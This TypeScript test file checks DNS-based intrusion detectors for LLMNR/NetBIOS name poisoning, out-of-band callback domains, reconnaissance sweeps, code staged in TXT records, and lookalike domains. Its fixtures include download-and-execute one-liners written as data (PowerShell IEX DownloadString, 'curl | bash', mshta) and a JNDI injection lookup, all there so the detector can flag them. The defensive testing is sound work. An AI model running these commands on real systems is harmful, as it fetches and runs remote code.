import test from 'ava';
import { netbiosName } from '../../../../../collector/domain/detection/detectors/intrusion/netbios-name.ts';
import type { Row } from '../../../../../shared/batch/row.ts';
import { alerts, detect } from '../../../../support/detection/stored.ts';
import { type Asked, asked, inOrder } from '../../../../support/detection/traffic.ts';

const many = <Item>(count: number, make: (n: number) => Item): Item[] =>
  Array.from({ length: count }, (_, n) => make(n));
const found = (rows: readonly Row[], type: string) =>
  detect(inOrder(rows)).filter((sighting) => sighting.type === type);
const told = (rows: readonly Row[], type: string) =>
  found(rows, type).map(({ severity, subject }) => `${severity} ${subject}`);

const llmnr = (at: number, name: string, server: string, address: string, client = `10.0.0.${at % 90}`) =>
  asked({
    at,
    name,
    client,
    answers: [address],
    ttl: 30,
    change: { nameService: 'llmnr', serverAddress: server, serverPort: 5_355 },
  });

test('a machine that answers for other names than its own on the local network is a poisoner', (t) => {
  const names = ['fileshare', 'printsrv', 'intranett', 'sqlsrv', 'backup01', 'wiki2'];
  const poisoner = names.map((name, n) => llmnr(n * 20, name, '10.0.0.66', '10.0.0.66'));
  t.deepEqual(told(poisoner, 'name_poisoning'), ['high 10.0.0.66']);
  const [sighting] = found(poisoner, 'name_poisoning');
  t.is(sighting!.clientAddress, '10.0.0.66');
  t.is(sighting!.technique, 'T1557.001');
  t.like(sighting!.evidence, { protocol: 'LLMNR', address: '10.0.0.66', names: 6 });
  t.deepEqual(told([llmnr(0, 'wpad', '10.0.0.66', '10.0.0.66')], 'name_poisoning'), ['medium 10.0.0.66']);
});

test('hosts that answer for their own names, or a server that knows all others, are none', (t) => {
  const hosts = many(60, (n) => llmnr(n * 5, `host${n % 20}`, `10.0.1.${n % 20}`, `10.0.1.${n % 20}`));
  t.deepEqual(told(hosts, 'name_poisoning'), []);
  const server = many(60, (n) => llmnr(n * 5, `host${n}`, '10.0.0.5', `10.0.1.${n}`));
  t.deepEqual(told(server, 'name_poisoning'), [], 'each name with an address of its own');
  const slow = many(9, (n) => llmnr(n * 900, `name${n}`, '10.0.0.7', '10.0.0.7'));
  t.deepEqual(told(slow, 'name_poisoning'), [], 'a host that is renamed');
  const aliases = many(9, (n) => ({
    ...llmnr(n * 5, `service${n}.local`, '10.0.0.8', '10.0.0.8'),
    nameService: 'mdns' as const,
  }));
  t.deepEqual(told(aliases, 'name_poisoning'), [], 'aliases of one host by mDNS');
});

const encoded = (name: string, service = 0x20) =>
  [...Buffer.from(name.toUpperCase().padEnd(15)), service]
    .map((octet) => String.fromCharCode(97 + (octet >> 4), 97 + (octet & 15)))
    .join('');

test('names of NetBIOS are read, and those of groups belong to all', (t) => {
  t.is(netbiosName(encoded('fred')), 'fred');
  t.is(netbiosName(`${encoded('file-srv', 0)}.scope`), 'file-srv');
  t.is(netbiosName('fred'), undefined);
  t.is(netbiosName('ckaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), '*');
  const answer = (at: number, name: string, flags: string) =>
    asked({
      at,
      name: encoded(name),
      change: {
        nameService: 'nbns',
        serverAddress: '10.0.0.66',
        queryType: 32,
        answerCount: 1,
        records: [
          { section: 'answer', name: encoded(name), type: 32, ttl: 30, data: `\\# 6 ${flags}0a000042` },
        ],
      },
    });
  const names = ['fileshare', 'printsrv', 'intranett', 'sqlsrv', 'backup01'];
  t.deepEqual(
    told(
      names.map((name, at) => answer(at, name, '0000')),
      'name_poisoning',
    ),
    ['high 10.0.0.66'],
  );
  t.deepEqual(
    told(
      names.map((name, at) => answer(at, name, '8000')),
      'name_poisoning',
    ),
    [],
  );
});

const callbacks = (name: string, at = 0) => told([asked({ at, name })], 'callback_service');

test('look-ups that somebody outside caused are told by catcher, by ticket and by expression', (t) => {
  t.deepEqual(callbacks('c58bduhe008dovpvhvugcfemp9yyyyyyn.oast.fun'), ['medium 192.0.2.10 oast.fun']);
  t.deepEqual(callbacks('root.host7.x1y2z3.dnslog.cn'), ['medium 192.0.2.10 dnslog.cn']);
  for (const page of ['oast.fun', 'www.dnslog.cn', 'app.interact.sh', 'docs.canarytokens.org'])
    t.deepEqual(callbacks(page), [], page);
  // The time of the traffic, 2026-09-21, and an older one, as the first four octets of an id.
  const id = (seconds: number) =>
    (BigInt(seconds) << 3n).toString(32).padStart(7, '0') + 'he008dovpvhvu'.slice(0, 13);
  const ticket = (seconds: number) => `${id(seconds)}gcfemp9yyyyyy`;
  t.deepEqual(callbacks(`${ticket(1_790_000_000 - 9 * 86_400)}.stray-host.net`), [
    'medium 192.0.2.10 stray-host.net',
  ]);
  t.deepEqual(callbacks(`a.${ticket(1_790_000_000 - 9 * 86_400)}.stray-host.net`), [
    'medium 192.0.2.10 stray-host.net',
  ]);
  t.deepEqual(callbacks(`${ticket(1_600_000_000)}.stray-host.net`), [], 'of another time');
  t.deepEqual(callbacks('${jndi:ldap://127.0.0.1#x7.attacker-site.com'), [
    'medium 192.0.2.10 ${jndi:ldap://127.0.0.1#x7.attacker-site',
  ]);
  t.deepEqual(callbacks('$\x7bhost}.some-company.com'), [], 'a template that nobody filled in');
});

const sweep = (order: (n: number) => number, count: number, every = 1) =>
  told(
    many(count, (n) =>
      asked({ at: n * every, name: `${order(n)}.7.20.10.in-addr.arpa`, type: 'PTR', code: 'NXDOMAIN' }),
    ),
    'reconnaissance',
  );

test('a network whose addresses are asked for their names in order is swept; a log is read in no order', (t) => {
  t.deepEqual(
    sweep((n) => n, 100),
    ['low 192.0.2.10 10.20.7.0/24'],
  );
  t.deepEqual(
    sweep((n) => 255 - n, 100),
    ['low 192.0.2.10 10.20.7.0/24'],
  );
  t.deepEqual(
    sweep((n) => (n * 101) % 256, 240),
    ['low 192.0.2.10 10.20.7.0/24'],
    'shuffled, but all',
  );
  t.deepEqual(
    sweep((n) => (n * 101) % 256, 120),
    [],
    'the hosts of a log',
  );
  t.deepEqual(
    sweep((n) => n, 100, 60),
    [],
    'slower than the window',
  );
  t.deepEqual(
    sweep(() => 9, 300),
    [],
  );
});

const transfer = (at: number, zone: string, change: Partial<Asked> = {}) =>
  asked({ at, name: zone, type: 'AXFR', code: 'REFUSED', ...change });

test('whole zones, versions, all services and names from a list are exploration', (t) => {
  const explored = (rows: readonly Row[]) => told(rows, 'reconnaissance');
  t.deepEqual(explored([transfer(0, 'corp.example.com')]), ['low 192.0.2.10 corp.example.com']);
  const given = { code: 'NOERROR', answers: ['soa'] } as const;
  t.deepEqual(explored([transfer(0, 'corp.example.com', given)]), ['medium 192.0.2.10 corp.example.com']);
  const serial = asked({ at: 0, name: 'corp.example.com', type: 'SOA', change: { queryFlags: 0 } });
  t.deepEqual(explored([serial, transfer(1, 'corp.example.com', given)]), [
    'info 192.0.2.10 corp.example.com',
  ]);
  const zones = many(4, (n) => transfer(n, `zone${n}.com`));
  t.is(explored(zones).filter((one) => one.startsWith('medium')).length, 2);

  const version = (servers: number) =>
    many(servers, (n) =>
      asked({
        at: n,
        name: 'version.bind',
        type: 'TXT',
        change: { queryClass: 3, serverAddress: `10.0.0.${n}` },
      }),
    );
  t.deepEqual(explored(version(8)), ['low 192.0.2.10 class CHAOS']);
  t.deepEqual(explored(version(1)), ['info 192.0.2.10 class CHAOS']);

  const services = (count: number) =>
    many(count, (n) =>
      asked({ at: n, name: `_svc${n}._tcp.corp.example.com`, type: 'SRV', code: 'NXDOMAIN' }),
    );
  t.deepEqual(explored(services(24)), ['low 192.0.2.10 example.com']);
  t.deepEqual(explored(services(12)), [], 'what a Windows host asks for');

  const words = (count: number, every: number) =>
    many(count, (n) => asked({ at: n * every, name: `word${n}.example.com`, code: 'NXDOMAIN' }));
  t.deepEqual(explored(words(330, 2)), ['low 192.0.2.10 example.com']);
  t.deepEqual(explored(words(330, 20)), [], 'dead hosts over a day');
  const suffix = many(400, (n) => asked({ at: n, name: `site${n}.com.example.com`, code: 'NXDOMAIN' }));
  t.deepEqual(explored(suffix), [], 'a search list');
});

const text = (data: string, name = 'x1.stage-store.net') =>
  told([asked({ at: 0, name, type: 'TXT', answers: [data] })], 'staged_code');

test('code that waits in records of text is told by its beginning or its words', (t) => {
  const program = Buffer.concat([
    Buffer.from('4d5a90000300000004000000ffff0000b800000000000000', 'hex'),
    Buffer.alloc(120, 7),
  ]).toString('base64');
  const codes: Readonly<Record<string, string>> = {
    program: `"${program}"`,
    hexadecimal: `"${Buffer.from(program, 'base64').toString('hex')}"`,
    elf: `"${Buffer.from(`7f454c4602010100${'00'.repeat(60)}`, 'hex').toString('base64')}"`,
    powershell: '"IEX (New-Object Net.WebClient).DownloadString(\'http://x.example/a\')"',
    encoded: `"powershell -enc ${Buffer.from('IEX (iwr http://x)', 'utf16le').toString('base64')}"`,
    utf16: `"${Buffer.from('IEX (iwr http://x.example/a)', 'utf16le').toString('base64')}"`,
    shell: '"curl -s http://x.example/a | bash"',
    mshta: '"mshta https://x.example/a.hta"',
  };
  for (const [what, data] of Object.entries(codes)) t.deepEqual(text(data), ['high stage-store.net'], what);
});

test('policies, keys, tokens and words are no code', (t) => {
  const harmless = [
    '"v=spf1 include:_spf.google.com ip4:192.0.2.0/24 -all"',
    `"v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA${'xA9TVqQz'.repeat(30)}AB"`,
    '"google-site-verification=TVqQk3b0fVMRgH4sIAUEsDBxyz"',
    '"MS=ms12345678"',
    '"docusign=05958488-4752-4ef2-95eb-aa7ba8a3bd0e"',
    '"We curl our hair; bash is a shell. import duties apply, script follows"',
    '"v=DMARC1; p=none; rua=mailto:a@example.com"',
    '"path=/ txtvers=1 rp=printers/cmd"',
  ];
  for (const data of harmless) t.deepEqual(text(data), [], data);
});

test('encoded pieces under names that count are staged; keys under selectors that count are not', (t) => {
  const data = (n: number) => `"${Buffer.alloc(150, n * 37 + 11).toString('base64')}"`;
  const pieces = (count: number, name: (n: number) => string) =>
    told(
      many(count, (n) => asked({ at: n * 60, name: name(n), type: 'TXT', answers: [data(n)] })),
      'staged_code',
    );
  t.deepEqual(
    pieces(8, (n) => `p${String(n).padStart(3, '0')}.stage-store.net`),
    ['medium stage-store.net'],
  );
  t.deepEqual(
    pieces(3, (n) => `${n}.stage-store.net`),
    [],
  );
  t.deepEqual(
    pieces(8, (n) => `token-${n * 977}.stage-store.net`),
    [],
    'numbers that do not count',
  );
  const keys = many(9, (n) =>
    asked({
      at: n,
      name: `s${n}._domainkey.mailer.com`,
      type: 'TXT',
      answers: [`"v=DKIM1; k=rsa; p=${data(n)}"`],
    }),
  );
  t.deepEqual(told(keys, 'staged_code'), []);
});

test('names like well-known brands are told of without a list of watched ones', (t) => {
  const like = (name: string, change: Partial<Asked> = {}) =>
    alerts(detect([asked({ at: 0, name, ...change })])).filter((alert) =>
      /^(?:homograph|typosquat)/.test(alert),
    );
  t.deepEqual(like('www.paypa1.com'), ['homograph medium paypa1.com']);
  t.deepEqual(like('login.rnicrosoft.com'), ['homograph medium rnicrosoft.com']);
  // Cyrillic letters: "аррӏе", "раypal" with two scripts, and a label of two scripts that is like no brand.
  t.deepEqual(like('xn--80ak6aa92e.com'), ['homograph high xn--80ak6aa92e.com']);
  t.deepEqual(like('xn--ypal-43d9g.com'), ['homograph high xn--ypal-43d9g.com']);
  t.is(like(new URL('http://gаrdenhouse.com').hostname).length, 1);
  t.deepEqual(like('secure-paypal.top'), ['typosquat medium secure-paypal.top']);
  t.deepEqual(like('microsoft-login.com'), ['typosquat low microsoft-login.com']);
  const ordinary = [
    'www.paypal.com',
    'apple.de',
    'paypal-community.com',
    'xn--mnchen-3ya.de',
    'appie.nl',
    'xn--fiqs8s.cn',
  ];
  for (const name of ordinary) t.deepEqual(like(name), [], name);
  t.deepEqual(like('www.paypa1.com', { code: 'NXDOMAIN', answers: [] }), [], 'does not exist');
});
